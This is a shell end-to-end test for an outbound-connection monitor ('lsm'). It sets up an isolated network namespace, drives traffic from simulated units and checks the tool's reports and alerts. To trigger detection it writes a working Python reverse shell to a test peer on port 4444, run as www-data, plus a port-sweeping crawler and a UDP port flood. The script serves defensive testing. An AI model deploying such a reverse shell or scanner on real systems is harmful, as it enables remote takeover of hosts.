#!/bin/sh
# Outbound connections: programs of several units connect to a second host, over IPv4 and IPv6. This host is .1, the other one .2, in
# a public, a private and a link-local network; the public one also leads to 198.18.0.0/16 and 2001:db8:c::/64, all addresses
# of the other host.
# shellcheck source=src/test/e2e/lib.sh
. "$(dirname -- "$0")/lib.sh"
isolate nft setpriv curl ssh python3
nft add table inet lsm-e2e 2>/dev/null || skip "nftables does not work here"
nft delete table inet lsm-e2e
ip link add lsm-e2e type bridge 2>/dev/null || skip "cannot create an interface"
ip link delete lsm-e2e

# --- the network
ip netns add remote
ip link add net0 type veth peer name eth0 netns remote
addresses() {
  printf 'addr add %s dev %s\n' "203.0.113.$1/24" "$2" "10.9.0.$1/16" "$2" "169.254.9.$1/16" "$2"
  printf 'addr add %s dev %s nodad\n' "2001:db8:5::$1/64" "$2" "fd00:9::$1/64" "$2" "fe80::$1/64" "$2"
}
on_remote() {
  ip netns exec remote "$@"
}
# No link-local addresses but these.
sysctl -q -w net.ipv6.conf.net0.addr_gen_mode=1
on_remote sysctl -q -w net.ipv6.conf.eth0.addr_gen_mode=1
addresses 1 net0 | ip -batch -
addresses 2 eth0 | ip -n remote -batch -
ip -n remote link set lo up
ip -n remote link set eth0 up
ip link set net0 up
ip route add default via 203.0.113.2
ip route add default via 2001:db8:5::2
for network in 198.18.0.0/16 2001:db8:c::/64; do
  ip -n remote route add local "$network" dev lo
done
on_remote sysctl -q -w net.ipv4.icmp_ratelimit=0 net.ipv6.icmp.ratelimit=0

# The addresses of the other host.
public="203.0.113.2 2001:db8:5::2"
private="10.9.0.2 fd00:9::2"
link_local="169.254.9.2 fe80::2%net0"

# --- users and units
cp /etc/passwd "$work/passwd"
printf 'alice:x:1777:100::%s:/bin/sh\nresolver:x:777:100::/nonexistent:/bin/false\nchronicle:x:778:100::/nonexistent:/bin/false\n' "$work" >>"$work/passwd"
mount --bind "$work/passwd" /etc/passwd

# nft names the control groups below this directory.
mount -t tmpfs lsm-e2e /sys/fs/cgroup 2>/dev/null || skip "cannot mount /sys/fs/cgroup"
mount -t cgroup2 cgroup2 /sys/fs/cgroup
group=/sys/fs/cgroup/lsm-e2e.$(date +%s%N)
mkdir "$group"
# end_group GROUP: ends the programs in it, and removes it.
end_group() {
  [ -d "$1" ] || return 0
  # shellcheck disable=SC2038  # these are PIDs
  find "$1" -name cgroup.procs -exec cat {} + | xargs -r kill -KILL
  within 10 find "$1" -depth -type d -exec rmdir {} +
}
at_end "end_group '$group'"

# in_unit UNIT USER COMMAND...: runs it as this user, in the control group of this unit.
in_unit() {
  unit=$group/$1
  shift
  mkdir -p "$unit"
  # shellcheck disable=SC2016  # for the other shell
  sh -c 'echo 0 >"$1/cgroup.procs"; user=$2; shift 2; exec setpriv --reuid "$user" --regid nogroup --clear-groups "$@"' sh "$unit" "$@"
}

# --- programs
PATH=/usr/bin:$PATH # www-data cannot read a Python of root's
cat >"$work/close.pl" <<'END'
use IO::Socket::IP;
my $listener = IO::Socket::IP->new(LocalHost => '::', LocalPort => shift, V6Only => 0, Listen => 9, ReuseAddr => 1) or die $@;
while (my $client = $listener->accept) { close $client }
END
cat >"$work/reverse-shell.py" <<'END'
import os, socket, subprocess, sys
peer = socket.create_connection((sys.argv[1], 4444))
for descriptor in range(2):
    os.dup2(peer.fileno(), descriptor)
subprocess.call(["/bin/sh"])
END
cat >"$work/crawler.py" <<'END'
import ipaddress, socket, sys
network = ipaddress.ip_network(sys.argv[1])
family = socket.AF_INET6 if network.version == 6 else socket.AF_INET
for number in range(1, 5001):
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.setblocking(False)
        connection.connect_ex((str(network[number]), 443))
END
# What nobody takes for outbound: to this host itself, to all hosts, and to groups.
cat >"$work/local.pl" <<'END'
use IO::Socket::IP;
for (['127.0.0.1', 7001], ['::1', 7001], ['203.0.113.1', 7002], ['2001:db8:5::1', 7002]) {
    IO::Socket::IP->new(PeerHost => $_->[0], PeerPort => $_->[1], Type => SOCK_STREAM, Timeout => 1);
}
for (['127.0.0.1', 7003], ['::1', 7003], ['203.0.113.1', 7004], ['2001:db8:5::1', 7004], ['224.0.0.251', 7005], ['ff02::fb%net0', 7005],
    ['255.255.255.255', 7006], ['203.0.113.255', 7007], ['10.9.255.255', 7008]) {
    my $socket = IO::Socket::IP->new(PeerHost => $_->[0], PeerPort => $_->[1], Type => SOCK_DGRAM, Broadcast => 1) or die "@$_: $@";
    defined $socket->syswrite('x') or die "@$_: $!";
}
END
cat >"$work/ports.pl" <<'END'
use Socket;
my ($host, $first, $last) = @ARGV;
socket(my $socket, AF_INET, SOCK_DGRAM, 0) or die $!;
for my $port ($first .. $last) {
    defined send($socket, 'x', 0, pack_sockaddr_in($port, inet_aton($host))) or die $!;
}
END
cp "$scripts/peer.pl" "$work"
chmod 755 "$work" "$work"/*.p[ly]

# serve COMMAND...: on the other host.
serve() {
  on_remote "$@" <>"$work/forever" >>"$work/served" 2>&1 &
  servers="${servers:-} $!"
}
serve perl "$work/peer.pl" echo 'tcp6/[::]:4444' 'tcp6/[::]:8443' 'udp6/[::]:53' 'udp6/[::]:123'
serve perl "$work/close.pl" 22
serve python3 -m http.server --bind :: --directory "$work/served.d" 80
mkdir "$work/served.d"
echo page >"$work/served.d/page"
serves() {
  on_remote ss -Hlntu | awk '{ print $5 }' | grep -cE ':(22|53|80|123|4444|8443)$' | grep -qx 6
}
check "the other host serves" within 10 serves

# ask UNIT USER tcp|udp PORT ADDRESS...: connects to each of the addresses; it answers.
ask() {
  unit_of=$1
  user=$2
  protocol=$3
  port=$4
  shift 4
  for address in "$@"; do
    any=0.0.0.0
    [ "$address" = "${address#*:}" ] || any=::
    run in_unit "$unit_of" "$user" perl "$work/peer.pl" ask "$protocol" "$any" "$address" "$port"
    check "$unit_of: $address answers $protocol/$port" test "$out" = "$port open"
  done
}

# get UNIT USER ADDRESS...: gets a page.
get() {
  unit_of=$1
  user=$2
  shift 2
  for address in "$@"; do
    [ "$address" = "${address#*:}" ] || address="[$address]"
    run in_unit "$unit_of" "$user" curl -s --max-time 10 "http://$address/page"
    check "$unit_of: curl http://$address/" test "$out" = page
  done
}

# Connected until the end.
reverse_shells() {
  for address in $public; do
    in_unit system.slice/apache2.service www-data python3 "$work/reverse-shell.py" "$address" &
    shells="${shells:-} $!"
  done
  check "two shells are connected" within 10 two_are_connected
}
two_are_connected() {
  test "$(ss -Htn state established dport = :4444 | wc -l)" -eq 2
}

# --- lsm

# configure_outbound KEY=VALUE...: the shipped configuration, with these.
configure_outbound() {
  cp "$root/conf/conf.lsm" "$conf"
  chmod 644 "$conf"
  for setting in MAILER=none SYSLOG=no STATE_DIR="$state" RUN_CMD="sh $work/record" "$@"; do
    set_key "${setting%%=*}" "${setting#*=}"
  done
}

# outbound_of FILE: the outbound connections in a report in JSON: NAME SEVERITY USER@UNIT...
outbound_of() {
  perl -MJSON::PP -0777 -ne '
    for (grep { $_->{protocol} =~ /^out-/ } @{decode_json($_)->{differences}}) {
      print join(" ", $_->{socket}, $_->{severity}, sort map { "$_->{user}\@$_->{program}" } @{$_->{owners}}), "\n";
    }' "$1" | sort
}

# compare WHAT STATUS: lsm compare exits with this status, and reports the outbound connections on standard input, and nothing else.
compare() {
  cat >"$work/expected"
  : >"$work/alerts"
  rm -f "$work/alert.json" "$work/stored.json"
  run "$lsm" compare --format json
  exits "$1: compare" "$2"
  outbound_of "$work/run.out" >"$work/named"
  check "$1: the report has these" same "$work/expected" "$work/named"
  check "$1: and nothing else" test "$(grep -c '"kind":' "$work/run.out")" -eq "$(wc -l <"$work/expected")"
}

# alerted WHAT EVENT...: the last compare has sent these alerts, and no others.
alerted() {
  what=$1
  shift
  check "$what: alerts: ${*:-none}" test "$(cut -d'|' -f1 "$work/alerts" | tr '\n' ' ' | sed 's/ $//')" = "$*"
}

# listed WHAT: lsm outbound prints the lines on standard input, and no others: NAME USER@UNIT PACKETS STATUS.
listed() {
  cat >"$work/expected"
  run "$lsm" outbound --format json
  exits "$1: lsm outbound" 0
  perl -MJSON::PP -0777 -ne '
    print map { "$_->{connection} $_->{user}\@$_->{unit} $_->{packets} $_->{status}\n" } @{decode_json($_)->{connections}}' "$work/run.out" |
    sort >"$work/named"
  check "$1: it lists these" same "$work/expected" "$work/named"
}

has_table() {
  nft list table inet lsm_outbound
}
has_no_table() {
  ! has_table
}

install_lsm
record_alerts

echo "# --- off"
# Services of this host; what they send are answers.
hold perl "$work/peer.pl" echo 'udp6/[::]:5300' 'tcp6/[::]:5301'
configure_outbound
baseline
compare "off" 0 </dev/null
check "off: no table" has_no_table
check "off: no state" absent "$state/outbound-state"
run "$lsm" outbound
exits "off: lsm outbound" 2
prints_one_error "off: one line of error"
prints "off: the error has the key" 'OUTBOUND="off"'

echo "# --- learning"
# The table of somebody else.
nft add table inet other
nft add chain inet other output '{ type filter hook output priority 0; policy accept; }'
nft add rule inet other output counter
other_table() {
  nft list table inet other | sed 's/ packets [0-9]* bytes [0-9]*//'
}
other_table >"$work/other"
configure_outbound OUTBOUND=report OUTBOUND_LEARN=7d SENTRY=report
compare "the rules are set" 0 </dev/null
check "there is a table" has_table
learned_traffic() {
  # shellcheck disable=SC2086  # words
  {
    get system.slice/apt-daily.service root $public
    ask system.slice/named.service resolver udp 53 $public $private
    ask system.slice/chrony.service resolver udp 123 $link_local
  }
}
learned_traffic
compare "learning" 0 </dev/null
alerted "learning"
listed "learned" <<END
out-tcp/public:80 root@apt-daily.service 2 learned
out-udp/link-local:123 resolver@chrony.service 2 learned
out-udp/private:53 resolver@named.service 2 learned
out-udp/public:53 resolver@named.service 2 learned
END
check "the addresses are kept" grep -q '"address": "203.0.113.2"' "$work/run.out"
run "$lsm" outbound
exits "as text" 0
check "as text, it has two lines for each" test "$(wc -l <"$work/run.out")" -eq 9
check "who connects" grep -qxE 'out-tcp/public:80  *root  *apt-daily\.service' "$work/run.out"
check "when, how often and to where" grep -qxE '    learned [0-9-]{10}, 2 packets, 203\.0\.113\.2' "$work/run.out"
check "it fits 80 columns" test -z "$(grep -E '.{81}' "$work/run.out")"

echo "# --- what is new is reported once"
configure_outbound OUTBOUND=report OUTBOUND_LEARN=0 SENTRY=report
learned_traffic
compare "what was learned" 0 </dev/null
new_traffic() {
  # shellcheck disable=SC2086  # words
  {
    get system.slice/backup.service root $private
    ask system.slice/chrony.service resolver udp 123 $public
    ask system.slice/cache.service resolver udp 53 $link_local
  }
  for address in $public; do
    in_unit "user.slice/user-1777.slice/session-$1.scope" alice timeout 20 ssh -o BatchMode=yes -o StrictHostKeyChecking=no \
      -o UserKnownHostsFile=/dev/null "$address" >/dev/null 2>&1
  done
  for network in 198.18.0.0/16 2001:db8:c::/64; do
    check "a crawler in $network" in_unit system.slice/crawler.service www-data python3 "$work/crawler.py" "$network"
  done
}
new_traffic 3
reverse_shells
compare "new" 1 <<END
out-tcp/private:80 low root@backup.service
out-tcp/public:22 low alice@session-*.scope
out-tcp/public:443 high www-data@crawler.service
out-tcp/public:4444 high www-data@apache2.service
out-udp/link-local:53 low resolver@cache.service
out-udp/public:123 low resolver@chrony.service
END
alerted "new" differences
alert_text >"$work/text"
awk '/^NEW / { of_shell = /\[high\] out-tcp\/public:4444$/ } of_shell' "$work/text" >"$work/shell"
while read -r text; do
  check "the alert has of the shell: $text" grep -qE "^ *$text\$" "$work/shell"
done <<END
! shell or interpreter
! a port to which this system user never connected before
user +www-data
unit +apache2[.]service
program +/usr/bin/python3[.0-9]* $work/reverse-shell.py
command +python3 $work/reverse-shell.py 203[.]0[.]113[.]2
command +python3 $work/reverse-shell.py 2001:db8:5::2
parents +/usr/bin/dash .*
connection +tcp 203[.]0[.]113[.]1:[0-9]+ to 203[.]0[.]113[.]2:4444
connection +tcp6 [[]2001:db8:5::1[]]:[0-9]+ to [[]2001:db8:5::2[]]:4444
END
check "the alert has the unit of the crawler" grep -q '^ *unit *crawler.service$' "$work/text"
compare "a second compare" 0 </dev/null
alerted "a second compare"
new_traffic 4
compare "the same again" 0 </dev/null

echo "# --- what is not outbound"
# asks PROTOCOL PORT: 50 clients of the other host ask this one, over both families.
asks() {
  for net in 203.0.113. 2001:db8:5::; do
    # shellcheck disable=SC2046  # words
    run on_remote perl "$work/peer.pl" ask "$1" "${net}2" "${net}1" $(yes "$2" | head -n 50)
    check "50 clients of ${net}1, $1" test "$out" = "$(yes "$2 open" | head -n 50 | xargs)"
  done
}
asks udp 5300
asks tcp 5301
check "loopback, this host, broadcast and multicast" in_unit system.slice/odd.service www-data perl "$work/local.pl"
compare "answers, and what stays near" 0 </dev/null

echo "# --- units that end"
# is_recorded UNIT: since the last compare.
is_recorded() {
  nft list set inet lsm_outbound new4 | grep -q "$1"
}
check "the group is removed" end_group "$group/system.slice/named.service"
# shellcheck disable=SC2086  # words
ask system.slice/named.service resolver udp 53 $public
check "a restarted unit is new to the kernel" is_recorded named.service
compare "a restarted unit" 0 </dev/null
# shellcheck disable=SC2086  # words
ask system.slice/short.service resolver udp 53 $public
check "a short unit is new to the kernel" is_recorded short.service
check "it has ended" end_group "$group/system.slice/short.service"
compare "a unit that has ended, of a user who is known" 0 </dev/null
# shellcheck disable=SC2086  # words
ask system.slice/short.service resolver tcp 8443 $public
check "it has ended" end_group "$group/system.slice/short.service"
compare "a unit that has ended, at a port where its user is not known" 1 <<END
out-tcp/public:8443 high resolver@
END
alerted "a unit that has ended" differences

echo "# --- the digest"
pass_time 31
compare "half an hour after high ones" 0 </dev/null
alerted "half an hour after high ones: no all-clear"
# shellcheck disable=SC2086  # words
get system.slice/archive.service root $private
compare "low" 1 <<END
out-tcp/private:80 low root@archive.service
END
alerted "low"
pass_time 1440
compare "a day later" 0 </dev/null
alerted "a day later" digest
check "the digest has it" grep -q 'out-tcp/private:80' "$work/stored.json"
compare "after the digest" 0 </dev/null
alerted "after the digest"

echo "# --- rules, and accept"
echo 'out  tcp  *:8443  user=chronicle' >>"$prefix/lsm/ignore.lsm"
mkdir -p "$prefix/lsm/rules.d"
echo 'allow  out udp  private:*  program=sync.service' >"$prefix/lsm/rules.d/sync.lsm"
# shellcheck disable=SC2086  # words
{
  ask system.slice/any.service chronicle tcp 8443 $public $private
  ask system.slice/sync.service resolver udp 123 $private
  ask system.slice/any.service resolver udp 123 $private
  ask system.slice/any.service www-data tcp 8443 $public
}
compare "what no rule matches" 1 <<END
out-tcp/public:8443 high www-data@any.service
out-udp/private:123 low resolver@any.service
END
run "$lsm" accept out-tcp/public:8443
exits "accept" 0
nft delete table inet lsm_outbound
rm "$state/outbound-state"
compare "a new state" 0 </dev/null
# shellcheck disable=SC2086  # words
{
  ask system.slice/any.service www-data tcp 8443 $public
  ask system.slice/any.service alice tcp 8443 $public
}
compare "what was accepted, and another user" 1 <<END
out-tcp/public:8443 low alice@any.service
END

echo "# --- what makes a compare incomplete"
# reads TEXT: the last alert has it, in lines of any length.
reads() {
  alert_text | tr -s '\n ' ' ' | grep -qF "$1"
}
# incomplete WHAT TEXT: the last compare was, for this reason, and that is alerted.
incomplete() {
  exits "$1" 2
  prints "$1" "$2"
  check "$1: it is alerted" grep -q '^scan_failed|' "$work/alerts"
  check "$1: the alert says so" reads "$2"
  check "$1: there are rules" has_table
}
configure_outbound OUTBOUND=report OUTBOUND_LEARN=0 # SENTRY would send an alert of its own
run "$lsm" compare
: >"$work/alerts"
nft flush ruleset
run "$lsm" compare --quiet
incomplete "flushed" "somebody has removed the table inet lsm_outbound"
# shellcheck disable=SC2086  # words
ask system.slice/any.service alice tcp 4444 $public
compare "the next compare" 1 <<END
out-tcp/public:4444 low alice@any.service
END
: >"$work/alerts"
check "a flood of ports" in_unit system.slice/flood.service alice perl "$work/ports.pl" 203.0.113.2 20001 25500
run "$lsm" compare
incomplete "a flood" "more than 4,500 users, units and ports"
run "$lsm" outbound
check "100 ports are known of it" test "$(grep -c '^out-udp/public:2[0-9]* *alice *flood' "$work/run.out")" -eq 100
check "the others are one" test "$(grep -c '^out-udp/public:0 *alice *flood' "$work/run.out")" -eq 1
# shellcheck disable=SC2086  # words
ask system.slice/any.service alice tcp 22 $private
check "one more port" in_unit system.slice/flood.service alice perl "$work/ports.pl" 203.0.113.2 22000 22000
began=$(date +%s)
compare "after the flood" 1 <<END
out-tcp/private:22 low alice@any.service
END
took=$(($(date +%s) - began))
check "it takes $took s" test "$took" -lt 10

echo "# --- the end"
nft -f "$work/other"
other_table >"$work/other"
# removed WHAT: the table and what was learned are, and nothing else.
removed() {
  exits "$1" 0
  check "$1: no table" has_no_table
  check "$1: no state" absent "$state/outbound-state"
  other_table >"$work/after"
  check "$1: another table is untouched" same "$work/other" "$work/after"
}
configure_outbound SENTRY=report
run "$lsm" compare
removed "off"
check "off: SENTRY has its table" nft list table inet lsm
configure_outbound OUTBOUND=report
compare "on" 0 </dev/null
check "on: there is a table" has_table
run "$lsm" delete
removed "delete"
prints "delete reports it" "Removed the table inet lsm_outbound"
baseline
compare "installed" 0 </dev/null
check "installed: there is a table" has_table
run "$prefix/lsm/install.sh" --uninstall
exits "uninstalled" 0
check "uninstalled: no table" has_no_table
other_table >"$work/after"
check "uninstalled: another table is untouched" same "$work/other" "$work/after"
check "the shells are ended" end_group "$group/system.slice/apache2.service"
# shellcheck disable=SC2086  # words
wait $shells 2>/dev/null
finish
